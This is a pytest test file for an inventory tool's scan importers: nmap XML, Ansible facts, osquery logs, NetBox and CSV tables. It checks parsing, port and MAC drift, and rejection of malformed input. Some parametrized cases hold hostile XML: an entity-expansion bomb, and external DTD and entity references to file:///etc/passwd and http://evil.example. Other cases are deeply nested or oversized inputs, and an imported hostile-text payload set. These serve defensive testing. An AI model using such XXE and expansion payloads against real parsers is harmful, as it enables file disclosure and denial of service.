"""Scans as files: what each format's reader makes of what tools write, and what it says of what is broken or hostile."""

from __future__ import annotations

import json
import resource
import sys
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from data.tables.discovery import discovery_row
from deskterm.errors import ImportRefused, InvalidInput
from deskterm.exchange.importing import run_import
from deskterm.exchange.nmap import targets
from tests.configuration.scanning import SAMPLES, facts, folder, host, inbox, known, nmap, scan, told
from tests.desks import MONDAY, Cast
from tests.hostile import PAYLOADS

CAPTURED = Path(__file__).parents[2].parent / "shared" / "data" / "cmdb"


def faults(cast: Cast, format: str, path: Path, content: object = None) -> list[tuple[int, str, str]]:  # noqa: A002
    with pytest.raises(ImportRefused) as refusal:
        scan(cast, format, path, content)
    assert cast.ada.count(cast.ada.prepare(("discovery",), "*")) == 0
    return [(row.line, row.field, row.message) for row in refusal.value.rows]


# nmap


def test_a_scan_of_nmap_is_read(cast: Cast) -> None:
    result = scan(cast, "nmap", SAMPLES / "2_hosts.xml")
    rows = {row.name: row for row in inbox(cast, result.number)}
    assert rows["scanme.nmap.org"].found == {
        "type": "server", "fqdn": "scanme.nmap.org", "attributes.ip": "74.207.244.221",
        "attributes.open_ports": ["22/tcp", "80/tcp", "9929/tcp"],
    }  # fmt: skip
    shown = cast.ada.show(result.number).values
    assert (shown["scope"], shown["scanned_at"], shown["complete"]) == ("localhost scanme.nmap.org", 1361737906, True)
    assert "1,3-4,6-7" in shown["ports"]["tcp"]


def test_a_port_that_opened_and_a_card_that_was_swapped_are_drift(cast: Cast) -> None:
    one = known(
        cast,
        name="127.0.0.1",
        attributes={"open_ports": ["22/tcp", "25/tcp", "111/tcp", "631/tcp", "3306/tcp"], "ip": "127.0.0.1"},
    )
    number = scan(cast, "nmap", SAMPLES / "2_hosts_achange.xml").number
    assert told(cast, number)["127.0.0.1"][:2] == ("changed", one)
    assert told(cast, number)["127.0.0.1"][2][0][2] == ["22/tcp", "23/tcp", "631/tcp", "3306/tcp"]
    ping = known(
        cast, name="dionaea", fqdn="dionaea.honeynet_testing_net", mac="02:42:AC:1C:01:03", attributes={"ip": "172.28.1.3"}
    )
    assert told(cast, scan(cast, "nmap", SAMPLES / "1_host_ping.xml").number)["dionaea.honeynet_testing_net"][0] == "unchanged"
    swapped = scan(cast, "nmap", SAMPLES / "diff_1_host_ping_mac_changed.xml").number
    assert told(cast, swapped) == {
        "dionaea.honeynet_testing_net": ("changed", ping, [("mac", "02:42:ac:1c:01:03", "02:42:ac:1c:01:04")])
    }
    assert [row.unauthorised for row in inbox(cast, swapped)] == [True]


@pytest.mark.parametrize(
    ("args", "found"),
    [
        ("nmap -sS -vv -oX 2_hosts.xml localhost scanme.nmap.org", "localhost scanme.nmap.org"),
        ("nmap -sV -vv -p 22,25,80 -oX a.xml --script default,safe --min-rate 100 192.0.2.0/24", "192.0.2.0/24"),
        (
            "/usr/local/bin/nmap -oX - -vvv --stats-every 1s -O -T4 --exclude=10.0.0.1 10.0.0.0/8 10.1.0.0/16",
            "10.0.0.0/8 10.1.0.0/16",
        ),
        ("nmap 'broken", "'broken"),
        ("", ""),
        ("nmap", ""),
    ],
)
def test_what_was_looked_at_is_what_is_no_option(args: str, found: str) -> None:
    assert targets(args) == found


BOMB = '<!DOCTYPE nmaprun [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (nmap(host("a.example.org"), head=BOMB), "declares entities"),
        (nmap(host("a.example.org"), head='<!DOCTYPE nmaprun SYSTEM "file:///etc/passwd">'), "points at a document type outside"),
        (
            nmap(host("a.example.org"), head='<!DOCTYPE nmaprun PUBLIC "x" "http://evil.example/x.dtd">'),
            "points at a document type",
        ),
        (
            nmap(host("a.example.org"), head='<!DOCTYPE nmaprun [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>'),
            "declares entities",
        ),
        (nmap(host("a.example.org"), head="<!DOCTYPE nmaprun [<!ELEMENT nmaprun ANY>]>"), "declares entities"),
        (nmap(host("a.example.org", extra="&a;")), "is not XML: undefined entity"),
        (nmap(host("a.example.org"), host("b.example.org"), end="<host><status sta"), "breaks off in the middle"),
        (nmap(host("a.example.org"), end=""), ""),
        (b"", "is cut short"),
        (b"<nmaprun", "is cut short"),
        (b"plain text", "is not XML"),
        (b"<html></html>", "is no scan of nmap: it begins with 'html'"),
        (nmap(host("a.example.org")).replace(b"a.example", b"\xff\xfe"), "is not XML: not well-formed"),
        (nmap(host("", address="")), "is a host without any address or name"),
        (nmap(host("a", address="192.0.2.1", state="down")), "holds no host that was up"),
        (nmap("<host>" + "<x>" * 100 + "</x>" * 100 + "</host>"), "is nested more than"),
        (nmap(host("x" * 300)), "is 300 characters long"),
    ],
)
def test_what_is_no_sound_scan_is_refused_by_line(cast: Cast, tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "lan.xml"
    path.write_bytes(content)
    if not said:
        assert scan(cast, "nmap", path).created == 1
        return
    found = faults(cast, "nmap", path)
    assert any(said in message for _, _, message in found), found
    assert all(line >= 1 for line, _, _ in found)


def test_half_a_scan_says_what_can_be_read_and_is_read_when_asked(cast: Cast, tmp_path: Path) -> None:
    path = tmp_path / "lan.xml"
    content = nmap(host("a.example.org"), host("b.example.org"), host("c.example.org"))
    path.write_bytes(content[: content.index(b"c.example") - 40])
    (line, _, message) = faults(cast, "nmap", path)[0]
    assert (line, "2 hosts can be read" in message) == (6, True)
    result = scan(cast, "nmap", path, skip_bad=True)
    assert (result.created, result.skipped) == (2, 1)
    assert cast.ada.show(result.number).values["complete"] is False


def test_a_document_type_without_declarations_is_what_nmap_writes(cast: Cast, tmp_path: Path) -> None:
    content = nmap(host("a.example.org"), head="<!DOCTYPE nmaprun>")
    assert scan(cast, "nmap", tmp_path / "lan.xml", content).created == 1


def test_an_attribute_without_end_is_refused_in_bounded_memory(cast: Cast, tmp_path: Path) -> None:
    path = tmp_path / "lan.xml"
    with path.open("wb") as file:
        file.write(b'<nmaprun args="nmap ')
        for _ in range(200):
            file.write(b"x" * (1 << 20))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert faults(cast, "nmap", path) == [(1, "", "holds an element of more than 4 MiB")]
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 60_000  # kilobytes


# Ansible


def test_facts_of_a_folder_are_read_and_who_was_not_reached_is_named(cast: Cast, tmp_path: Path) -> None:
    out = folder(tmp_path / "out", {
        "db01.prod.example": facts(
            nodename="db01.prod.example", product_serial="NA", product_uuid="NA", interfaces=["lo", "eth0"], machine="x86_64",
            eth0={"macaddress": "08:00:27:00:11:01"}, default_ipv4={"address": "192.0.2.1", "macaddress": "08:00:27:00:11:01"},
            virtualization_role="guest", processor_vcpus=2, memtotal_mb=1996, system_vendor="innotek GmbH", kernel="6.1",
        ),
        "dead.dev.example": {"changed": False, "msg": "Failed to connect to the host via ssh: \n timed out", "unreachable": True},
        "bad.dev.example": {"failed": True, "msg": "no python"},
        "win.dev.example": facts(
            hostname="win", fqdn="win.dev.example", ip_addresses=["192.0.2.9", "fe80::1"],
            interfaces=[{"macaddress": "08-00-27-00-11-02"}, {"default_gateway": None}], processor_cores="NA",
        ),
        "hosts.ini": b"[db]\ndb01",
    })  # fmt: skip
    result = scan(cast, "ansible", out)
    assert (result.created, result.skipped) == (2, 2)
    rows = {row.name: row for row in inbox(cast, result.number)}
    assert rows["db01.prod.example"].found == {
        "type": "virtual-machine", "fqdn": "db01.prod.example", "mac": "08:00:27:00:11:01", "manufacturer": "innotek GmbH",
        "attributes.os": "Debian", "attributes.os_version": "12", "attributes.kernel": "6.1", "attributes.architecture": "x86_64",
        "attributes.cpus": 2, "attributes.memory_mb": 1996, "attributes.ip": "192.0.2.1",
    }  # fmt: skip
    dead, bad = rows["dead.dev.example"], rows["bad.dev.example"]
    assert (dead.outcome.value, dead.message) == ("unreached", "unreachable: Failed to connect to the host via ssh: timed out")
    assert (bad.outcome.value, bad.message) == ("unreached", "failed: no python")
    win = rows["win.dev.example"].found
    assert (win["mac"], win["attributes.ip"]) == ("08:00:27:00:11:02", "192.0.2.9")


def test_a_broken_file_of_a_folder_is_named_and_nothing_is_loaded(cast: Cast, tmp_path: Path) -> None:
    out = folder(
        tmp_path / "out",
        {
            "a.example.org": facts(),
            "b.example.org": b'{"ansible_facts": {"ansible_host',
            "c.example.org": b"\xff\xfe{}",
            "d.example.org": [1],
            "e.example.org": {"other": 1},
            "f.example.org": b"",
            "g.example.org": b"[" * 100_000,
            "h.example.org": facts(fqdn="x\x00y"),
        },
    )
    found = {column: message for _, column, message in faults(cast, "ansible", out)}
    assert sorted(found) == [f"{letter}.example.org" for letter in "bcdefgh"]
    assert "is not JSON" in found["b.example.org"]
    assert "are not UTF-8" in found["c.example.org"]
    assert found["d.example.org"] == "is no JSON object; Ansible writes one for each host"
    assert found["e.example.org"] == "holds no facts of Ansible"
    assert "is empty" in found["f.example.org"]
    assert found["g.example.org"] == "is nested too deeply"
    assert "NUL" in found["h.example.org"]
    result = scan(cast, "ansible", out, skip_bad=True)
    assert (result.created, result.skipped) == (1, 7)
    with pytest.raises(InvalidInput, match="there is no file in"):
        run_import(cast.ada, "ansible", folder(tmp_path / "none", {}))
    with pytest.raises(InvalidInput, match="cannot be read"):
        run_import(cast.ada, "nmap", out)


# osquery


def answers(**more: Any) -> dict[str, Any]:
    info = {
        "hostname": "lt-2207.example.org",
        "uuid": "4C4C4544-0031-3510-8052-B4C04F4D3532",
        "hardware_serial": "5CD2345ABC",
        "cpu_logical_cores": "8",
        "physical_memory": "16777216000",
        "hardware_vendor": "HP",
        "hardware_model": "HP EliteBook 840 G9",
        "cpu_type": "x86_64",
    }
    return {
        "system_info": [info],
        "os_version": [{"name": "Ubuntu", "version": "24.04 LTS"}],
        "kernel_info": [{"version": "6.8"}],
        "interface_details": [
            {"interface": "lo", "mac": "00:00:00:00:00:00"},
            {"interface": "wlan0", "mac": "E8:2A:EA:62:A0:BB"},
        ],
        "interface_addresses": [
            {"address": "127.0.0.1"},
            {"address": "fe80::1"},
            {"address": "2001:db8::7"},
            {"address": "192.0.2.7"},
        ],
    } | more


def test_answers_of_osquery_are_read(cast: Cast, tmp_path: Path) -> None:
    packages = [{"name": "bash", "version": "5.2"}, {"name": "zsh", "version": "5.9"}]
    number = scan(
        cast, "osquery", tmp_path / "fleet.json", [answers(deb_packages=packages), {"system_info": [{"hostname": "vm-1"}]}]
    ).number
    rows = {row.name: row.found for row in inbox(cast, number)}
    assert rows["lt-2207.example.org"] == {
        "type": "laptop",
        "fqdn": "lt-2207.example.org",
        "serial": "5CD2345ABC",
        "uuid": "4c4c4544-0031-3510-8052-b4c04f4d3532",
        "mac": "e8:2a:ea:62:a0:bb",
        "manufacturer": "HP",
        "model": "HP EliteBook 840 G9",
        "attributes.os": "Ubuntu",
        "attributes.os_version": "24.04 LTS",
        "attributes.kernel": "6.8",
        "attributes.architecture": "x86_64",
        "attributes.cpus": 8,
        "attributes.memory_mb": 16000,
        "attributes.ip": "192.0.2.7",
        "attributes.packages": rows["lt-2207.example.org"]["attributes.packages"],
    }
    assert rows["lt-2207.example.org"]["attributes.packages"].startswith("2 (")
    assert rows["vm-1"] == {"type": "workstation"}


def test_lines_of_a_results_log_belong_together_by_host(cast: Cast, tmp_path: Path) -> None:
    tables = answers()
    lines = [
        {
            "name": "pack_inventory_system_info",
            "hostIdentifier": "h1",
            "unixTime": MONDAY - 60,
            "snapshot": tables["system_info"],
        },
        {"name": "pack_inventory_os_version", "hostIdentifier": "h1", "action": "added", "columns": tables["os_version"][0]},
        {"name": "pack_other", "hostIdentifier": "h1", "columns": {"x": "y"}},
        {"name": "system_info", "hostIdentifier": "h2", "snapshot": [{"hostname": "h2.example.org"}]},
    ]
    path = tmp_path / "results.log"
    number = scan(cast, "osquery", path, "\n".join(map(json.dumps, lines)).encode()).number
    rows = {row.name: row.found for row in inbox(cast, number)}
    assert set(rows) == {"lt-2207.example.org", "h2.example.org"}
    assert rows["lt-2207.example.org"]["attributes.os"] == "Ubuntu"
    assert cast.ada.show(number).values["scanned_at"] == MONDAY - 60


def test_a_log_of_differentials_says_what_is_there_in_the_end(cast: Cast, tmp_path: Path) -> None:
    """As osqueryd writes them: every value a text, the host as `hostname`, events one by one and in a batch."""
    about = {"name": "pack_desk_system_info", "hostname": "h1", "unixTime": str(MONDAY - 60), "epoch": "0", "counter": "0"}
    packages = {"name": "pack_desk_deb_packages", "hostIdentifier": "h1", "calendarTime": "Mon Nov  2 08:59:00 2026 UTC"}
    old, new, other = ({"name": "bash", "version": version} for version in ("5.1", "5.2", "9"))
    lines = [
        about | {"action": "added", "columns": answers()["system_info"][0]},
        packages | {"action": "added", "columns": other, "counter": "0"},
        packages | {"diffResults": {"added": [old], "removed": ""}, "counter": "0"},
        packages | {"action": "added", "columns": new, "counter": "1"},
        packages | {"action": "removed", "columns": old, "counter": "1"},
        {"name": "hash", "hostIdentifier": "h1", "snapshot": [{"path": "/opt/p.tar", "sha256": "AB" * 32}, {"path": "/x"}]},
    ]
    number = scan(cast, "osquery", tmp_path / "osqueryd.results.log", "\n".join(map(json.dumps, lines)).encode()).number
    (row,) = inbox(cast, number)
    assert row.name == "lt-2207.example.org"
    assert row.found["attributes.packages"].startswith("1 (")
    assert cast.ada.show(number).values["scanned_at"] == MONDAY - 60
    with cast.database.read() as connection:
        (software,) = connection.execute(select(discovery_row.c.software)).scalars()
    assert software == {"bash": "5.2", "/opt/p.tar": f"sha256:{'ab' * 32}"}


def test_rows_as_osqueryi_prints_them_are_hosts(cast: Cast, tmp_path: Path) -> None:
    rows = [answers()["system_info"][0], {"hostname": "h2.example.org", "uuid": "", "hardware_serial": "X-1"}]
    number = scan(cast, "osquery", tmp_path / "system_info.json", rows).number
    assert {row.name for row in inbox(cast, number)} == {"lt-2207.example.org", "h2.example.org"}


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ([1], "is no JSON object"),
        ({"name": "system_info", "snapshot": []}, "neither hostIdentifier nor hostname"),
        ({"name": "hash", "hostname": "h", "diffResults": []}, "diffResults of hash must be rows"),
        ({"os_version": []}, "has no system_info"),
        ({"system_info": [{}]}, "says neither the host's name nor its UUID"),
        ({"system_info": {"hostname": "x"}}, "system_info must be a list of rows"),
        (b'{"system_info": [', "is not JSON"),
        (b"NaN", "is not JSON"),
        (answers(deb_packages=[{"name": f"p{i}"} for i in range(5_001)]), "lists 5,001 packages"),
        (answers(os_version=[{"name": "x" * 200}]), "is 200 characters long"),
    ],
)
def test_what_is_no_answer_of_osquery_is_refused(cast: Cast, tmp_path: Path, content: object, said: str) -> None:
    assert said in faults(cast, "osquery", tmp_path / "a.json", content)[0][2]


# NetBox and tables


def test_an_inventory_of_netbox_is_read_by_its_mapping(cast: Cast, tmp_path: Path) -> None:
    result = scan(cast, "netbox", SAMPLES / "netbox.json")
    rows = inbox(cast, result.number)
    found = {row.name: row.found for row in rows}
    assert found["dmi01-akron-rtr01"] == {
        "type": "network-device",
        "location": "DM-Akron",
        "manufacturer": "Cisco",
        "model": "ISR 1111-8P",
        "attributes.os": "Cisco IOS",
    }
    assert [name for name in found if name.startswith("vm")]
    unnamed = [row for row in rows if row.name == "48-Port Patch Panel"]
    assert len(unnamed) == 2
    assert {row.outcome.value for row in rows} == {"new"}
    mine = tmp_path / "mine.toml"
    mine.write_text('[[items]]\nmodel = "dcim.site"\nname = "name"\notherwise = "location"\n', encoding="utf-8")
    sites = run_import(cast.ada, "netbox", SAMPLES / "netbox.json", mapping=mine, dry_run=True)
    assert sites.unchanged == len(rows)  # the same file is there already
    mine.write_text("items = []\n", encoding="utf-8")
    with pytest.raises(InvalidInput, match="the mapping's items"):
        run_import(cast.ada, "netbox", SAMPLES / "netbox.json", mapping=mine)
    assert "is no inventory" in faults_of(cast, tmp_path, {"a": 1})
    assert "entries that are no objects" in faults_of(cast, tmp_path, [1, {"model": "dcim.device"}])


def faults_of(cast: Cast, tmp_path: Path, content: object) -> str:
    with pytest.raises(ImportRefused) as refusal:
        scan(cast, "netbox", tmp_path / "x.json", content)
    return refusal.value.rows[0].message


def test_a_table_of_hosts_is_read_by_usual_headings(cast: Cast, tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    content = "Host;Serial Number;MAC Address;Site;Memory;Rack;cost\nweb-01;SN-0001-A;08-00-27-00-11-01;Haus A;16000;R7;12,50\n"
    path.write_text(content.replace("12,50", "12.50"), encoding="utf-8")
    (row,) = inbox(cast, scan(cast, "discovery", path).number)
    assert row.found == {
        "name": "web-01",
        "serial": "SN-0001-A",
        "mac": "08:00:27:00:11:01",
        "location": "Haus A",
        "attributes.memory_mb": "16000",
        "attributes.rack": "R7",
        "cost": 1250,
    }
    path.write_text(content + "web-02;x\nweb-03;;nonsense;;;;x\n", encoding="utf-8")
    with pytest.raises(ImportRefused) as refusal:
        scan(cast, "discovery", path)
    assert [(one.line, one.field, one.message[:22]) for one in refusal.value.rows] == [
        (2, "cost", "must be an amount such"),
        (3, "", "is cut short: it has 2"),
        (4, "mac", "must be a MAC address "),
        (4, "cost", "must be an amount such"),
    ]
    for bad, said in (
        ("a,b\n1,2\n", "names no host"),
        ("name,Host\nx,y\n", "stands there twice"),
        ('name,attributes\nx,"[1]"\n', "must be an object"),
        ("", "holds no host"),
    ):
        path.write_text(bad, encoding="utf-8")
        with pytest.raises(ImportRefused) as refusal:
            scan(cast, "discovery", path)
        assert any(said in one.message for one in refusal.value.rows)


# Whatever is sent


def test_hostile_text_is_stored_as_received_or_refused(any_cast: Cast, tmp_path: Path) -> None:
    files: dict[str, object] = {}
    for place, (name, text) in enumerate(PAYLOADS.items()):
        content = facts(
            hostname=f"h{place}", product_name=text[:110], product_serial=f"SN-{name}-{place}", distribution=text[:100]
        )
        files[f"h{place}.json"] = json.dumps(content).encode("utf-8", "surrogatepass")
    result = scan(any_cast, "ansible", folder(tmp_path / "out", files), skip_bad=True)
    refused = {f"h{place}" for place, name in enumerate(PAYLOADS) if name in ("nul", "halves")}
    assert {row.name for row in inbox(any_cast, result.number)} == {f"h{place}" for place in range(len(PAYLOADS))} - refused
    stored = {row.name: row.found for row in inbox(any_cast, result.number)}
    place = list(PAYLOADS).index("escape_clipboard")
    assert stored[f"h{place}"]["model"] == PAYLOADS["escape_clipboard"][:110]


@pytest.mark.parametrize("format", ["ansible", "osquery", "netbox"])
def test_json_nested_without_end_is_refused_in_bounded_memory(cast: Cast, tmp_path: Path, format: str) -> None:  # noqa: A002
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    found = faults(cast, format, tmp_path / "deep.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000)
    assert found[0][2] == "is nested too deeply"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 60_000
    assert sys.getrecursionlimit() < 100_000


CAPTURES = {"nmap": "nmap/*.xml", "ansible": "ansible-facts", "netbox": "netbox/*.json"}


@pytest.mark.parametrize("form", [form for form in CAPTURES if CAPTURED.is_dir()])
def test_captured_scans_land_whole_and_once(cast: Cast, form: str) -> None:
    for path in sorted(CAPTURED.glob(CAPTURES[form])):
        result = run_import(cast.ada, form, path)
        assert result.created > 0, path
        again = run_import(cast.ada, form, path)
        assert (again.number, again.created, again.updated) == (result.number, 0, 0)
